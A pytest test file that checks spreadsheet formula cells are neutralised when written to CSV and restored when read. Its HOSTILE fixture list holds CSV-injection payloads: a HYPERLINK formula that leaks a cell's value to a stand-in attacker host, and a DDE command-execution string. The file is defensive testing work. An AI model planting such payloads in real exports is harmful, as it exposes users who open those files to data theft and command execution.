"""CSV cells a spreadsheet would evaluate are neutralised on writing and restored on reading."""

from __future__ import annotations

import math

import numpy as np
import pandas as pd
import pytest

from flops_fit.csvsafe import neutralise_cell, neutralise_text, restore_cell, restore_text
from flops_fit.datasets.atomic import CSVDataset
from flops_fit.pipelines.analysis.datasets import AnalysisRunsDataset, RunsFileDataset

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1)",
           "-2+3", "\tTAB", "\rCR", "=1+1"]
#: text that must come back exactly: quotes of its own, numbers as text, ordinary ids
TRICKY = ["'=x", "''=x", "'quoted", "'", "''", "-1.5", "+1e5", "-inf", "'-1.5", "C1e18-d64-L2-ab12",
          "", " =x", "a=b"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text
    assert restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize("text", TRICKY)
def test_every_text_round_trips(text):
    assert restore_cell(neutralise_cell(text)) == text


def test_numbers_and_plain_text_are_left_alone():
    for value in (-1.5, 2, np.float64(-3e18), None, math.nan, "-1.5", "1e18", "ok", "a-b"):
        out = neutralise_cell(value)
        assert out is value or (isinstance(value, float) and math.isnan(out))
    df = pd.DataFrame({"x": [-1.5, 2.0], "n": [1, -2], "id": ["a", "b"]})
    assert neutralise_text(df) is df  # nothing to do: the same frame, no copy


def test_the_frame_given_is_not_changed():
    df = pd.DataFrame({"experiment_id": ["=x", "ok"], "loss": [-1.0, 2.0]})
    out = neutralise_text(df)
    assert out["experiment_id"].tolist() == ["'=x", "ok"]
    assert df["experiment_id"].tolist() == ["=x", "ok"]
    assert restore_text(out).equals(df)


def _table() -> pd.DataFrame:
    # a lone carriage return inside a cell does not survive pandas' CSV writer anyway
    ids = [t for t in HOSTILE + TRICKY if "\r" not in t]
    return pd.DataFrame({
        "experiment_id": ids,
        "compute_budget": [1e18] * len(ids),
        "final_loss": np.linspace(-1.5, 3.0, len(ids)),
        "status": ["completed"] * len(ids),
        "error_message": ["@import"] + [""] * (len(ids) - 1),
    })


def test_our_csv_neutralises_on_disk_and_reads_back_the_original_text(tmp_path):
    table = _table()
    CSVDataset(filepath=str(tmp_path / "results.csv")).save(table)
    on_disk = pd.read_csv(tmp_path / "results.csv", keep_default_na=False)
    for text in on_disk["experiment_id"].tolist() + on_disk["error_message"].tolist():
        assert not text.startswith(("=", "+", "-", "@", "\t")) or text in ("-1.5", "+1e5"), text
    assert on_disk["final_loss"].dtype == float  # numbers stay numbers, -1.5 included
    assert on_disk["final_loss"].iloc[0] == -1.5

    back = CSVDataset(filepath=str(tmp_path / "results.csv"),
                      load_args={"keep_default_na": False}).load()
    assert back["experiment_id"].tolist() == table["experiment_id"].tolist()
    assert back["error_message"].tolist() == table["error_message"].tolist()
    np.testing.assert_allclose(back["final_loss"], table["final_loss"])


def test_the_imported_path_reads_our_results_back_as_they_were(tmp_path):
    table = _table()
    CSVDataset(filepath=str(tmp_path / "results.csv")).save(table)
    back = RunsFileDataset(filepath=str(tmp_path / "results.csv"),
                           load_args={"keep_default_na": False}).load()
    assert back["experiment_id"].tolist() == table["experiment_id"].tolist()


def test_analysis_runs_round_trip(tmp_path):
    runs = pd.DataFrame({
        "experiment_id": ["=HYPERLINK(\"x\")", "@SUM(1)", "C1e18-a"],
        "compute_budget": [1e18, 1e18, 1e18], "model_size": [1e6, 2e6, 4e6],
        "num_tokens": [1e11, 5e10, 2.5e10], "final_loss": [3.1, 3.0, 3.2],
        "status": ["completed"] * 3, "budget_id": [0, 0, 0], "used_in_fit": [True] * 3,
        "reason": ["", "", ""],
    })
    dataset = AnalysisRunsDataset(filepath=str(tmp_path / "analysis_runs.csv"))
    dataset.save(runs)
    assert "'=HYPERLINK" in (tmp_path / "analysis_runs.csv").read_text()
    assert dataset.load()["experiment_id"].tolist() == runs["experiment_id"].tolist()


def test_scripts_read_our_csvs_back_with_read_csv(tmp_path):
    from flops_fit.csvsafe import read_csv

    table = _table()
    CSVDataset(filepath=str(tmp_path / "results.csv")).save(table)
    back = read_csv(tmp_path / "results.csv", keep_default_na=False)
    assert back["experiment_id"].tolist() == table["experiment_id"].tolist()
